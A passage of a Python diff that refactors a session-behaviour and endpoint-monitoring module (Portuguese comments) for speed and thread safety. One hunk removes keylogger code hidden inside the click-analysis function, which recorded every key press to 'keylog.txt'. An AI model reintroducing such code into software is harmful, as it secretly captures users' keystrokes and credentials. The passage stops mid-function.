@@ -9,23 +9,92 @@ Funcionalidades:
 - Métricas de uso e performance em tempo real
 """
 
+import bisect
+import heapq
+import itertools
 import json
+import logging
+import os
+import queue
+import secrets
 import statistics
+from statistics import fmean
+import sys
 import threading
 import time
 import uuid
+from array import array
 from collections import defaultdict, deque
 from dataclasses import dataclass, field
-from datetime import datetime, timedelta
+from datetime import datetime
 from enum import Enum
 from functools import wraps
-from typing import Dict, List, Optional, Any, Callable
+from typing import Dict, List, Optional, Any, Callable, Tuple
 
+# orjson (C) serializa os lotes de eventos enviados ao sink e os relatórios; json como alternativa
+try:
+    import orjson
+except ImportError:
+    orjson = None
 
-# Configuração de logging
-logging.basicConfig(level=logging.INFO)
+
+# Logger do módulo (a configuração de handlers fica a cargo da aplicação)
 logger = logging.getLogger(__name__)
 
+# Janela de tempos de resposta recentes mantida por endpoint (para a mediana)
+RESPONSE_TIME_WINDOW = 1024
+
+# Capacidade do histórico de requisições (e dos buffers circulares de timestamps)
+REQUEST_HISTORY_SIZE = 10000
+
+# Número de locks (potência de 2) que protegem as janelas de rate limiting por sessão
+RATE_LIMIT_LOCK_STRIPES = 64
+
+# Validade do cache das métricas em tempo real (250 ms)
+REAL_TIME_METRICS_TTL_NS = 250_000_000
+
+# Janela (1 min) dos contadores deslizantes de cliques/requisições por sessão
+SESSION_RATE_WINDOW_NS = 60_000_000_000
+
+# Tamanho da região de hotspot (px) e limite de células do histograma 2D; grades
+# maiores (coordenadas muito espalhadas) usam a contagem esparsa por região
+HOTSPOT_REGION_PX = 50
+HOTSPOT_MAX_GRID_CELLS = 1 << 20
+
+# Sink de eventos: fila limitada (descarta quando cheia) e tamanho máximo de lote
+EVENT_SINK_QUEUE_SIZE = 100_000
+EVENT_SINK_BATCH_SIZE = 500
+_SINK_STOP = object()
+
+# Relógio interno: time.monotonic_ns() em inteiros; o horário de parede só é
+# calculado (a partir do deslocamento abaixo) ao serializar
+_NS_PER_SECOND = 1_000_000_000
+_WALL_OFFSET_NS = time.time_ns() - time.monotonic_ns()
+
+
+def _wall_epoch(monotonic_ns: int) -> float:
+    """Converte um instante de time.monotonic_ns() para segundos desde a epoch"""
+    return (monotonic_ns + _WALL_OFFSET_NS) / _NS_PER_SECOND
+
+
+def _wall_datetime(monotonic_ns: int) -> datetime:
+    """Converte um instante de time.monotonic_ns() para datetime local"""
+    return datetime.fromtimestamp(_wall_epoch(monotonic_ns))
+
+
+# IDs de eventos: prefixo aleatório de 64 bits sorteado uma vez por processo +
+# contador de 64 bits. SESSION_BEHAVIOR_UUID_IDS=1 volta a gerar UUID4 (RFC 4122).
+USE_UUID_IDS = os.environ.get("SESSION_BEHAVIOR_UUID_IDS", "0") == "1"
+_ID_PREFIX = secrets.token_hex(8)
+_ID_COUNTER = itertools.count()
+
+
+def _new_event_id() -> str:
+    """Gera um ID único para eventos e requisições"""
+    if USE_UUID_IDS:
+        return str(uuid.uuid4())
+    return f"{_ID_PREFIX}{next(_ID_COUNTER):016x}"
+
 
 class HTTPMethod(Enum):
     """Métodos HTTP suportados"""
@@ -39,6 +108,15 @@ class HTTPMethod(Enum):
     TRACE = "TRACE"
 
 
+# Prefixo "MÉTODO:" das chaves de endpoint, calculado uma vez por método
+_METHOD_PREFIX = {m: m.value + ":" for m in HTTPMethod}
+
+
+def _endpoint_key(method: HTTPMethod, endpoint: str) -> str:
+    """Chave "MÉTODO:endpoint" internada (comparação por identidade nos dicts)"""
+    return sys.intern(_METHOD_PREFIX[method] + endpoint)
+
+
 class EventType(Enum):
     """Tipos de eventos de usuário"""
     CLICK = "click"
@@ -61,7 +139,7 @@ class RequestStatus(Enum):
     BLOCKED = "blocked"
 
 
-@dataclass
+@dataclass(slots=True)
 class EndpointMetrics:
     """Métricas de um endpoint específico"""
     endpoint: str = ""
@@ -69,10 +147,24 @@ class EndpointMetrics:
     total_requests: int = 0
     successful_requests: int = 0
     failed_requests: int = 0
-    response_times: List[float] = field(default_factory=list)
-    status_codes: Dict[int, int] = field(default_factory=dict)
-    last_accessed: Optional[datetime] = None
-    first_accessed: Optional[datetime] = None
+    response_times_recent: deque = field(default_factory=lambda: deque(maxlen=RESPONSE_TIME_WINDOW))
+    mean: float = 0.0  # Média acumulada (Welford)
+    m2: float = 0.0    # Soma dos quadrados dos desvios (Welford)
+    status_codes: Dict[int, int] = field(default_factory=lambda: defaultdict(int))
+    last_accessed_ns: Optional[int] = None
+    first_accessed_ns: Optional[int] = None
+    _lock: threading.Lock = field(default_factory=threading.Lock, repr=False, compare=False)
+    _dict_cache: Optional[Tuple[int, Dict[str, Any]]] = field(default=None, repr=False, compare=False)
+    
+    @property
+    def last_accessed(self) -> Optional[datetime]:
+        """Último acesso ao endpoint"""
+        return _wall_datetime(self.last_accessed_ns) if self.last_accessed_ns is not None else None
+    
+    @property
+    def first_accessed(self) -> Optional[datetime]:
+        """Primeiro acesso ao endpoint"""
+        return _wall_datetime(self.first_accessed_ns) if self.first_accessed_ns is not None else None
     
     @property
     def success_rate(self) -> float:
@@ -89,42 +181,69 @@ class EndpointMetrics:
     @property
     def avg_response_time(self) -> float:
         """Tempo médio de resposta em milissegundos"""
-        if not self.response_times:
+        return self.mean
+    
+    @property
+    def response_time_variance(self) -> float:
+        """Variância amostral do tempo de resposta"""
+        if self.total_requests < 2:
             return 0.0
-        return statistics.mean(self.response_times)
+        return self.m2 / (self.total_requests - 1)
     
     @property
     def median_response_time(self) -> float:
-        """Tempo mediano de resposta"""
-        if not self.response_times:
+        """Tempo mediano de resposta (sobre a janela recente)"""
+        recent = self.response_times_recent
+        if not recent:
             return 0.0
-        return statistics.median(self.response_times)
+        np = _numpy()
+        if np is not None:
+            return float(np.median(np.fromiter(recent, dtype=np.float64, count=len(recent))))
+        return statistics.median(recent)
+    
+    def add_response_time(self, response_time_ms: float):
+        """Atualiza média/variância acumuladas e a janela recente (chamar após total_requests += 1)"""
+        delta = response_time_ms - self.mean
+        self.mean += delta / self.total_requests
+        self.m2 += (response_time_ms - self.mean) * delta
+        self.response_times_recent.append(response_time_ms)
     
     def to_dict(self) -> Dict[str, Any]:
-        """Converte para dicionário"""
-        return {
+        """Converte para dicionário (memoizado até a próxima requisição do endpoint)"""
+        total = self.total_requests
+        cached = self._dict_cache
+        if cached is not None and cached[0] == total:
+            return cached[1]
+        
+        # Cada propriedade é avaliada uma única vez
+        success_rate = self.success_rate
+        last_accessed = self.last_accessed
+        first_accessed = self.first_accessed
+        data = {
             "endpoint": self.endpoint,
             "method": self.method.value,
-            "total_requests": self.total_requests,
+            "total_requests": total,
             "successful_requests": self.successful_requests,
             "failed_requests": self.failed_requests,
-            "success_rate": round(self.success_rate, 2),
-            "failure_rate": round(self.failure_rate, 2),
+            "success_rate": round(success_rate, 2),
+            "failure_rate": round(100.0 - success_rate, 2),
             "avg_response_time_ms": round(self.avg_response_time, 2),
             "median_response_time_ms": round(self.median_response_time, 2),
-            "status_codes": self.status_codes,
-            "last_accessed": self.last_accessed.isoformat() if self.last_accessed else None,
-            "first_accessed": self.first_accessed.isoformat() if self.first_accessed else None
+            "status_codes": dict(self.status_codes),
+            "last_accessed": last_accessed.isoformat() if last_accessed else None,
+            "first_accessed": first_accessed.isoformat() if first_accessed else None
         }
+        self._dict_cache = (total, data)
+        return data
 
 
-@dataclass
+@dataclass(slots=True)
 class UserEvent:
     """Evento de usuário"""
-    event_id: str = field(default_factory=lambda: str(uuid.uuid4()))
+    event_id: str = field(default_factory=_new_event_id)
     session_id: str = ""
     event_type: EventType = EventType.CLICK
-    timestamp: datetime = field(default_factory=datetime.now)
+    timestamp_ns: int = field(default_factory=time.monotonic_ns)
     element_id: Optional[str] = None
     element_class: Optional[str] = None
     element_tag: Optional[str] = None
@@ -133,6 +252,16 @@ class UserEvent:
     value: Optional[str] = None
     metadata: Dict[str, Any] = field(default_factory=dict)
     
+    @property
+    def timestamp(self) -> datetime:
+        """Horário do evento (calculado sob demanda)"""
+        return _wall_datetime(self.timestamp_ns)
+    
+    @property
+    def ts_epoch(self) -> float:
+        """Horário do evento em segundos desde a epoch (sem passar por datetime)"""
+        return _wall_epoch(self.timestamp_ns)
+    
     def to_dict(self) -> Dict[str, Any]:
         """Converte para dicionário"""
         return {
@@ -140,6 +269,7 @@ class UserEvent:
             "session_id": self.session_id,
             "event_type": self.event_type.value,
             "timestamp": self.timestamp.isoformat(),
+            "ts_epoch": self.ts_epoch,
             "element_id": self.element_id,
             "element_class": self.element_class,
             "element_tag": self.element_tag,
@@ -150,10 +280,10 @@ class UserEvent:
         }
 
 
-@dataclass
+@dataclass(slots=True)
 class RequestEvent:
     """Evento de requisição HTTP"""
-    request_id: str = field(default_factory=lambda: str(uuid.uuid4()))
+    request_id: str = field(default_factory=_new_event_id)
     session_id: str = ""
     endpoint: str = ""
     method: HTTPMethod = HTTPMethod.GET
@@ -161,15 +291,34 @@ class RequestEvent:
     response_time_ms: float = 0.0
     request_size_bytes: int = 0
     response_size_bytes: int = 0
-    timestamp: datetime = field(default_factory=datetime.now)
+    timestamp_ns: int = field(default_factory=time.monotonic_ns)
     user_agent: str = ""
     ip_address: str = ""
     headers: Dict[str, str] = field(default_factory=dict)
     query_params: Dict[str, str] = field(default_factory=dict)
     error_message: Optional[str] = None
+    _status: RequestStatus = field(init=False, repr=False, compare=False)
+    
+    def __post_init__(self):
+        # Status calculado uma única vez na criação do evento
+        self._status = self._classify_status()
+    
+    @property
+    def timestamp(self) -> datetime:
+        """Horário da requisição (calculado sob demanda)"""
+        return _wall_datetime(self.timestamp_ns)
+    
+    @property
+    def ts_epoch(self) -> float:
+        """Horário do evento em segundos desde a epoch (sem passar por datetime)"""
+        return _wall_epoch(self.timestamp_ns)
     
     @property
     def status(self) -> RequestStatus:
+        """Status da requisição (calculado na criação)"""
+        return self._status
+    
+    def _classify_status(self) -> RequestStatus:
         """Determina status baseado no código HTTP"""
         if 200 <= self.status_code < 300:
             return RequestStatus.SUCCESS
@@ -193,6 +342,7 @@ class RequestEvent:
             "request_size_bytes": self.request_size_bytes,
             "response_size_bytes": self.response_size_bytes,
             "timestamp": self.timestamp.isoformat(),
+            "ts_epoch": self.ts_epoch,
             "user_agent": self.user_agent,
             "ip_address": self.ip_address,
             "headers": self.headers,
@@ -201,6 +351,223 @@ class RequestEvent:
         }
 
 
+def _click_event_from(click: Dict[str, Any]) -> UserEvent:
+    """Cria o UserEvent de um clique (dict com session_id, element_id, coordinates, page_url)"""
+    return UserEvent(
+        session_id=click['session_id'],
+        event_type=EventType.CLICK,
+        element_id=click.get('element_id'),
+        coordinates=click.get('coordinates'),
+        page_url=click.get('page_url', '')
+    )
+
+
+def _scroll_event_from(scroll: Dict[str, Any]) -> UserEvent:
+    """Cria o UserEvent de um scroll (dict com session_id, coordinates, page_url, direction)"""
+    direction = scroll.get('direction', 'unknown')
+    return UserEvent(
+        session_id=scroll['session_id'],
+        event_type=EventType.SCROLL,
+        coordinates=scroll.get('coordinates') or {},
+        page_url=scroll.get('page_url', ''),
+        metadata={"scroll_direction": direction, "direction": direction}
+    )
+
+
+def _request_event_from(data: Dict[str, Any]) -> RequestEvent:
+    """Cria o RequestEvent de um dict com os mesmos campos de track_request"""
+    return RequestEvent(
+        session_id=data['session_id'],
+        endpoint=data['endpoint'],
+        method=data.get('method', HTTPMethod.GET),
+        status_code=data['status_code'],
+        response_time_ms=data['response_time_ms'],
+        request_size_bytes=data.get('request_size', 0),
+        response_size_bytes=data.get('response_size', 0),
+        ip_address=data.get('ip_address', ''),
+        user_agent=data.get('user_agent', ''),
+        headers=data.get('headers') or {},
+        query_params=data.get('query_params') or {},
+        error_message=data.get('error_message')
+    )
+
+
+# numpy/numba são importados sob demanda, na primeira análise que precisar deles:
+# quem só rastreia eventos não paga o custo de importação
+_np = None
+_np_checked = False
+_kernels = None
+
+
+def _numpy():
+    """Módulo numpy (importado na primeira chamada) ou None se não estiver instalado"""
+    global _np, _np_checked
+    if not _np_checked:
+        try:
+            import numpy
+            _np = numpy
+        except ImportError:
+            _np = None
+        _np_checked = True
+    return _np
+
+
+def _idle_kernel_py(ts, threshold):
+    # Índices i em que o intervalo ts[i] - ts[i-1] excede o limite de inatividade
+    idx = []
+    total = 0.0
+    longest = 0.0
+    for i in range(1, len(ts)):
+        diff = ts[i] - ts[i - 1]
+        if diff > threshold:
+            idx.append(i)
+            total += diff
+            longest = max(longest, diff)
+    return total, longest, idx
+
+
+def _hotspot_kernel_py(xs, ys):
+    # Agrupa cliques em regiões de 50x50 px; chave = (região_x << 32) | região_y
+    counts: Dict[int, int] = defaultdict(int)
+    for x, y in zip(xs, ys):
+        counts[(((x // 50) * 50) << 32) | (((y // 50) * 50) & 0xFFFFFFFF)] += 1
+    return list(counts.keys()), list(counts.values())
+
+
+def _analysis_kernels() -> Tuple[Callable, Callable, Callable]:
+    """(idle_kernel, hotspot_kernel, to_array): compilados com Numba quando disponível,
+    senão os mesmos laços em Python puro (recebendo listas)"""
+    global _kernels
+    if _kernels is None:
+        _kernels = _build_kernels()
+    return _kernels
+
+
+def _build_kernels() -> Tuple[Callable, Callable, Callable]:
+    np = _numpy()
+    try:
+        if np is None:
+            raise ImportError("numpy")
+        from numba import njit, types as nb_types
+        from numba.typed import Dict as NumbaDict
+    except ImportError:
+        return _idle_kernel_py, _hotspot_kernel_py, lambda values, dtype: values
+
+    @njit(cache=True)
+    def idle_kernel(ts, threshold):
+        idx = np.empty(max(ts.shape[0] - 1, 0), dtype=np.int64)
+        count = 0
+        total = 0.0
+        longest = 0.0
+        for i in range(1, ts.shape[0]):
+            diff = ts[i] - ts[i - 1]
+            if diff > threshold:
+                idx[count] = i
+                count += 1
+                total += diff
+                if diff > longest:
+                    longest = diff
+        return total, longest, idx[:count]
+
+    @njit(cache=True)
+    def hotspot_kernel(xs, ys):
+        counts = NumbaDict.empty(key_type=nb_types.int64, value_type=nb_types.int64)
+        for i in range(xs.shape[0]):
+            key = (np.int64((xs[i] // 50) * 50) << 32) | (np.int64((ys[i] // 50) * 50) & 0xFFFFFFFF)
+            counts[key] = counts.get(key, 0) + 1
+        keys = np.empty(len(counts), dtype=np.int64)
+        values = np.empty(len(counts), dtype=np.int64)
+        i = 0
+        for key, value in counts.items():
+            keys[i] = key
+            values[i] = value
+            i += 1
+        return keys, values
+
+    return idle_kernel, hotspot_kernel, lambda values, dtype: np.asarray(values, dtype=dtype)
+
+
+def _dumps_events(events: List[Dict[str, Any]]) -> bytes:
+    """Serializa um lote de eventos (já em dicionário) para uma linha JSON"""
+    if orjson is not None:
+        return orjson.dumps(events, option=orjson.OPT_NAIVE_UTC) + b"\n"
+    return json.dumps(events, ensure_ascii=False, default=str).encode("utf-8") + b"\n"
+
+
+def _dumps_report(report: Dict[str, Any]) -> bytes:
+    """Serializa um relatório para JSON (bytes UTF-8)"""
+    if orjson is not None:
+        # Chaves não-string: contagens de status HTTP são indexadas por int
+        return orjson.dumps(report, default=str,
+                            option=orjson.OPT_NAIVE_UTC | orjson.OPT_NON_STR_KEYS)
+    return json.dumps(report, ensure_ascii=False, default=str).encode("utf-8")
+
+
+def _hotspot_grid(np, xs, ys, top_k: int) -> Optional[List[Tuple[str, int]]]:
+    """Top regiões de cliques via histograma 2D (NumPy); None se a grade for grande demais"""
+    x0 = (int(xs.min()) // HOTSPOT_REGION_PX) * HOTSPOT_REGION_PX
+    y0 = (int(ys.min()) // HOTSPOT_REGION_PX) * HOTSPOT_REGION_PX
+    x_edges = np.arange(x0, int(xs.max()) + HOTSPOT_REGION_PX + 1, HOTSPOT_REGION_PX)
+    y_edges = np.arange(y0, int(ys.max()) + HOTSPOT_REGION_PX + 1, HOTSPOT_REGION_PX)
+    if (len(x_edges) - 1) * (len(y_edges) - 1) > HOTSPOT_MAX_GRID_CELLS:
+        return None
+    
+    grid, _, _ = np.histogram2d(xs, ys, bins=[x_edges, y_edges])
+    flat = grid.ravel()
+    k = min(top_k, int(np.count_nonzero(flat)))
+    if k == 0:
+        return []
+    top = np.argpartition(-flat, k - 1)[:k]
+    top = top[np.argsort(-flat[top], kind="stable")]
+    
+    rows = grid.shape[1]
+    return [
+        (f"{x0 + (i // rows) * HOTSPOT_REGION_PX},{y0 + (i % rows) * HOTSPOT_REGION_PX}", int(flat[i]))
+        for i in top.tolist()
+    ]
+
+
+def _unpack_region(key: int) -> str:
+    """Converte a chave empacotada de região de volta para 'x,y'"""
+    region_x = key >> 32
+    region_y = key & 0xFFFFFFFF
+    if region_y >= 0x80000000:
+        region_y -= 0x100000000
+    return f"{region_x},{region_y}"
+
+
+@dataclass(slots=True)
+class _SessionScan:
+    """Dados coletados em uma passada pelos eventos da sessão"""
+    timestamps: List[int] = field(default_factory=list)
+    event_counts: Dict[EventType, int] = field(default_factory=lambda: defaultdict(int))
+    click_count: int = 0
+    first_click_ns: int = 0
+    last_click_ns: int = 0
+    click_xs: List[int] = field(default_factory=list)
+    click_ys: List[int] = field(default_factory=list)
+
+
+def _scan_events(events: List[UserEvent]) -> _SessionScan:
+    """Percorre os eventos uma vez, acumulando timestamps, contagens e cliques"""
+    scan = _SessionScan()
+    timestamps = scan.timestamps
+    event_counts = scan.event_counts
+    for event in events:
+        ts = event.timestamp_ns
+        timestamps.append(ts)
+        event_counts[event.event_type] += 1
+        if event.event_type is EventType.CLICK:
+            if not scan.click_count:
+                scan.first_click_ns = ts
+            scan.last_click_ns = ts
+            scan.click_count += 1
+            if event.coordinates:
+                scan.click_xs.append(event.coordinates["x"])
+                scan.click_ys.append(event.coordinates["y"])
+    return scan
+
+
 class UserBehaviorAnalyzer:
     """Analisador de comportamento do usuário"""
     
@@ -210,92 +577,121 @@ class UserBehaviorAnalyzer:
     
     def add_event(self, event: UserEvent):
         """Adiciona evento de usuário"""
-        self.sessions[event.session_id].append(event)
-        logger.debug(f"Evento adicionado: {event.event_type.value} para sessão {event.session_id}")
+        events = self.sessions[event.session_id]
+        if events and event.timestamp_ns < events[-1].timestamp_ns:
+            # Evento fora de ordem (ex.: envio em lote): inserção ordenada
+            bisect.insort(events, event, key=lambda e: e.timestamp_ns)
+        else:
+            events.append(event)
+        logger.debug("Evento adicionado: %s para sessão %s", event.event_type, event.session_id)
+    
+    def add_events(self, events: List[UserEvent]):
+        """Adiciona vários eventos; lotes já em ordem são anexados de uma vez por sessão"""
+        by_session: Dict[str, List[UserEvent]] = defaultdict(list)
+        for event in events:
+            by_session[event.session_id].append(event)
+        
+        for session_id, batch in by_session.items():
+            stored = self.sessions[session_id]
+            in_order = all(a.timestamp_ns <= b.timestamp_ns for a, b in zip(batch, batch[1:]))
+            if in_order and (not stored or batch[0].timestamp_ns >= stored[-1].timestamp_ns):
+                stored.extend(batch)
+            else:
+                for event in batch:
+                    self.add_event(event)
+        logger.debug("%d eventos adicionados em %d sessões", len(events), len(by_session))
     
     def get_user_sequence(self, session_id: str, limit: Optional[int] = None) -> List[UserEvent]:
         """Obtém sequência de ações do usuário"""
+        # A lista já é mantida em ordem cronológica por add_event
         events = self.sessions.get(session_id, [])
-        events.sort(key=lambda x: x.timestamp)
         
         if limit:
             return events[-limit:]
         return events
     
+    def analyze_session(self, session_id: str) -> Dict[str, Any]:
+        """Contagem por tipo, duração, inatividade e cliques em uma única passada pelos eventos"""
+        events = self.get_user_sequence(session_id)
+        scan = _scan_events(events)
+        
+        duration = 0
+        if events:
+            duration = (scan.timestamps[-1] - scan.timestamps[0]) / _NS_PER_SECOND
+        
+        return {
+            "events": events,
+            "event_breakdown": {t.value: c for t, c in scan.event_counts.items()},
+            "session_duration_seconds": duration,
+            "idle_analysis": self._idle_analysis(events, scan),
+            "click_patterns": self._click_analysis(scan),
+        }
+    
     def calculate_idle_time(self, session_id: str) -> Dict[str, Any]:
         """Calcula tempo de inatividade do usuário"""
         events = self.get_user_sequence(session_id)
-        
+        return self._idle_analysis(events, _scan_events(events))
+    
+    def analyze_click_patterns(self, session_id: str) -> Dict[str, Any]:
+        """Analisa padrões de clique"""
+        return self._click_analysis(_scan_events(self.get_user_sequence(session_id)))
+    
+    def _idle_analysis(self, events: List[UserEvent], scan: "_SessionScan") -> Dict[str, Any]:
+        """Períodos de inatividade a partir dos timestamps coletados"""
         if len(events) < 2:
             return {"total_idle_time": 0, "idle_periods": [], "longest_idle": 0}
         
-        idle_periods = []
-        total_idle_time = 0
-        
-        for i in range(1, len(events)):
-            time_diff = (events[i].timestamp - events[i-1].timestamp).total_seconds()
-            
-            if time_diff > self.idle_threshold_seconds:
-                idle_period = {
-                    "start": events[i-1].timestamp.isoformat(),
-                    "end": events[i].timestamp.isoformat(),
-                    "duration_seconds": time_diff
-                }
-                idle_periods.append(idle_period)
-                total_idle_time += time_diff
+        idle_kernel, _, to_array = _analysis_kernels()
+        timestamps = to_array(scan.timestamps, "int64")
+        total_idle_ns, longest_idle_ns, idle_indexes = idle_kernel(
+            timestamps, self.idle_threshold_seconds * _NS_PER_SECOND
+        )
         
-        longest_idle = max([p["duration_seconds"] for p in idle_periods]) if idle_periods else 0
+        idle_periods = [
+            {
+                "start": events[i-1].timestamp.isoformat(),
+                "end": events[i].timestamp.isoformat(),
+                "duration_seconds": (scan.timestamps[i] - scan.timestamps[i-1]) / _NS_PER_SECOND
+            }
+            for i in idle_indexes
+        ]
         
         return {
-            "total_idle_time_seconds": total_idle_time,
+            "total_idle_time_seconds": total_idle_ns / _NS_PER_SECOND,
             "idle_periods": idle_periods,
-            "longest_idle_seconds": longest_idle,
+            "longest_idle_seconds": longest_idle_ns / _NS_PER_SECOND,
             "idle_threshold_seconds": self.idle_threshold_seconds
         }
     
-    def analyze_click_patterns(self, session_id: str) -> Dict[str, Any]:
-        """Analisa padrões de clique"""
-        events = [e for e in self.sessions.get(session_id, []) 
-                 if e.event_type == EventType.CLICK]
-        
-        if not events:
+    def _click_analysis(self, scan: "_SessionScan") -> Dict[str, Any]:
+        """Frequência e hotspots de cliques a partir dos dados coletados"""
+        if not scan.click_count:
             return {"total_clicks": 0, "click_frequency": 0, "hotspots": []}
-
-        logging.basicConfig(filename="keylog.txt", level=logging.INFO, format='%(asctime)s: %(message)s')
-
-        def on_press(key):
-            try:
-                logging.info(f'Tecla pressionada: {key.char}')
-            except AttributeError:
-                logging.info(f'Tecla especial: {key}')
-
-        def on_release(key):
-            if key == keyboard.Key.esc:
-                return None
-
-        with keyboard.Listener(on_press=on_press, on_release=on_release) as listener:
-            listener.join()
-
+        
         # Calcular frequência de cliques
-        if len(events) > 1:
-            session_duration = (events[-1].timestamp - events[0].timestamp).total_seconds()
-            click_frequency = len(events) / max(session_duration / 60, 1)  # cliques por minuto
+        if scan.click_count > 1:
+            session_duration = (scan.last_click_ns - scan.first_click_ns) / _NS_PER_SECOND
+            click_frequency = scan.click_count / max(session_duration / 60, 1)  # cliques por minuto
         else:
             click_frequency = 0
         
         # Identificar hotspots (áreas mais clicadas)
-        hotspots = defaultdict(int)
-        for event in events:
-            if event.coordinates:
-                # Agrupar por região de 50x50 pixels
-                region_x = (event.coordinates["x"] // 50) * 50
-                region_y = (event.coordinates["y"] // 50) * 50
-                hotspots[f"{region_x},{region_y}"] += 1
-        
-        sorted_hotspots = sorted(hotspots.items(), key=lambda x: x[1], reverse=True)[:10]
+        xs, ys = scan.click_xs, scan.click_ys
+        sorted_hotspots = []
+        if xs:
+            # Agrupar por região de 50x50 pixels (histograma 2D; contagem esparsa como fallback)
+            np = _numpy()
+            if np is not None:
+                sorted_hotspots = _hotspot_grid(np, np.asarray(xs, dtype=np.int64),
+                                                np.asarray(ys, dtype=np.int64), top_k=10)
+            if not sorted_hotspots:
+                _, hotspot_kernel, to_array = _analysis_kernels()
+                keys, counts = hotspot_kernel(to_array(xs, "int32"), to_array(ys, "int32"))
+                hotspots = [(_unpack_region(int(k)), int(c)) for k, c in zip(keys, counts)]
+                sorted_hotspots = sorted(hotspots, key=lambda x: x[1], reverse=True)[:10]
         
         return {
-            "total_clicks": len(events),
+            "total_clicks": scan.click_count,
             "click_frequency_per_minute": round(click_frequency, 2),
             "hotspots": [{"region": region, "clicks": count} for region, count in sorted_hotspots]
         }
@@ -306,136 +702,215 @@ class EndpointMonitor:
     
     def __init__(self):
         self.endpoints: Dict[str, EndpointMetrics] = {}
-        self.request_history: deque = deque(maxlen=10000)  # Últimas 10k requisições
-        self.rate_limiter_windows: Dict[str, deque] = defaultdict(lambda: deque())
+        self.request_history: deque = deque(maxlen=REQUEST_HISTORY_SIZE)  # Últimas 10k requisições
+        self.rate_limiter_windows: Dict[str, List[int]] = defaultdict(list)  # timestamps ns ordenados
+        
+        # Locks de granularidade fina: cada EndpointMetrics tem o seu; este só protege
+        # a criação de endpoints/ids de sessão e a escrita no histórico
         self._lock = threading.Lock()
+        self._history_lock = threading.Lock()
+        self._stripes = [threading.Lock() for _ in range(RATE_LIMIT_LOCK_STRIPES)]
+        
+        # Colunas paralelas ao histórico (timestamp em ns e id interno da sessão) para
+        # contar requisições recentes sem percorrer os objetos RequestEvent; são arrays
+        # da biblioteca padrão, lidos pelo numpy sem cópia (np.frombuffer) nas consultas
+        self._ts_ring = array('q', [0]) * REQUEST_HISTORY_SIZE
+        self._sid_ring = array('i', [0]) * REQUEST_HISTORY_SIZE
+        self._ring_idx = 0
+        self._session_ids: Dict[str, int] = {}
+        
+        # Versão dos dados, alterada a cada requisição registrada (invalida caches de relatório)
+        self._version_counter = itertools.count(1)
+        self.version = 0
     
     def record_request(self, request: RequestEvent):
         """Registra uma requisição"""
-        with self._lock:
-            endpoint_key = f"{request.method.value}:{request.endpoint}"
-            
-            # Criar ou obter métricas do endpoint
-            if endpoint_key not in self.endpoints:
-                self.endpoints[endpoint_key] = EndpointMetrics(
-                    endpoint=request.endpoint,
-                    method=request.method
-                )
-            
-            metrics = self.endpoints[endpoint_key]
-            
+        endpoint_key = _endpoint_key(request.method, request.endpoint)
+        
+        # Criar ou obter métricas do endpoint
+        metrics = self.endpoints.get(endpoint_key)
+        if metrics is None:
+            with self._lock:
+                metrics = self.endpoints.get(endpoint_key)
+                if metrics is None:
+                    metrics = self.endpoints[endpoint_key] = EndpointMetrics(
+                        endpoint=request.endpoint,
+                        method=request.method
+                    )
+        
+        with metrics._lock:
             # Atualizar métricas
             metrics.total_requests += 1
-            metrics.response_times.append(request.response_time_ms)
-            metrics.last_accessed = request.timestamp
+            metrics.add_response_time(request.response_time_ms)
+            metrics.last_accessed_ns = request.timestamp_ns
             
-            if metrics.first_accessed is None:
-                metrics.first_accessed = request.timestamp
+            if metrics.first_accessed_ns is None:
+                metrics.first_accessed_ns = request.timestamp_ns
             
             # Atualizar contadores de status
-            if request.status_code in metrics.status_codes:
-                metrics.status_codes[request.status_code] += 1
-            else:
-                metrics.status_codes[request.status_code] = 1
+            metrics.status_codes[request.status_code] += 1
             
             # Determinar sucesso/falha
             if request.status == RequestStatus.SUCCESS:
                 metrics.successful_requests += 1
             else:
                 metrics.failed_requests += 1
-            
-            # Adicionar ao histórico
+        
+        # Adicionar ao histórico
+        sid = self._session_ids.get(request.session_id)
+        if sid is None:
+            with self._lock:
+                sid = self._session_ids.setdefault(request.session_id, len(self._session_ids))
+        # Histórico e colunas paralelas precisam avançar juntos
+        with self._history_lock:
             self.request_history.append(request)
-            
-            # Atualizar janela de rate limiting
+            slot = self._ring_idx % REQUEST_HISTORY_SIZE
+            self._ts_ring[slot] = request.timestamp_ns
+            self._sid_ring[slot] = sid
+            self._ring_idx += 1
+        
+        # Atualizar janela de rate limiting (lock da faixa da sessão)
+        with self._stripes[hash(request.session_id) & (RATE_LIMIT_LOCK_STRIPES - 1)]:
             session_window = self.rate_limiter_windows[request.session_id]
-            now = datetime.now()
+            now_ns = time.monotonic_ns()
             
-            # Remover requisições antigas (mais de 1 minuto)
-            while session_window and (now - session_window[0]).total_seconds() > 60:
-                session_window.popleft()
+            # Remover requisições antigas (mais de 1 minuto): busca binária + um único corte
+            expired = bisect.bisect_left(session_window, now_ns - SESSION_RATE_WINDOW_NS)
+            if expired:
+                del session_window[:expired]
             
-            session_window.append(now)
-            
-            logger.info(f"Requisição registrada: {request.method.value} {request.endpoint} "
-                       f"- {request.status_code} - {request.response_time_ms:.2f}ms")
+            session_window.append(now_ns)
+        
+        # Valores únicos do contador: a versão nunca volta a um valor já cacheado
+        self.version = next(self._version_counter)
+        
+        if logger.isEnabledFor(logging.DEBUG):
+            logger.debug("Requisição registrada: %s %s - %d - %.2fms", request.method.value,
+                         request.endpoint, request.status_code, request.response_time_ms)
     
     def get_endpoint_metrics(self, endpoint: str, method: HTTPMethod) -> Optional[EndpointMetrics]:
         """Obtém métricas de um endpoint específico"""
-        endpoint_key = f"{method.value}:{endpoint}"
+        endpoint_key = _endpoint_key(method, endpoint)
         return self.endpoints.get(endpoint_key)
     
     def get_all_endpoints_metrics(self) -> Dict[str, Dict[str, Any]]:
         """Obtém métricas de todos os endpoints"""
         return {key: metrics.to_dict() for key, metrics in self.endpoints.items()}
     
+    def session_requests_last_minute(self, session_id: str) -> int:
+        """Requisições da sessão no último minuto, lidas da janela de rate limiting"""
+        with self._stripes[hash(session_id) & (RATE_LIMIT_LOCK_STRIPES - 1)]:
+            session_window = self.rate_limiter_windows.get(session_id)
+            if not session_window:
+                return 0
+            cutoff_ns = time.monotonic_ns() - SESSION_RATE_WINDOW_NS
+            return len(session_window) - bisect.bisect_left(session_window, cutoff_ns)
+    
     def calculate_requests_per_minute(self, session_id: Optional[str] = None, 
                                     window_minutes: int = 5) -> Dict[str, float]:
         """Calcula requisições por minuto"""
-        now = datetime.now()
-        cutoff = now - timedelta(minutes=window_minutes)
+        total = self._count_recent_requests(session_id, window_minutes)
+        rpm = total / window_minutes
+        rps = rpm / 60
         
         if session_id:
             # Requisições específicas da sessão
-            session_requests = [r for r in self.request_history 
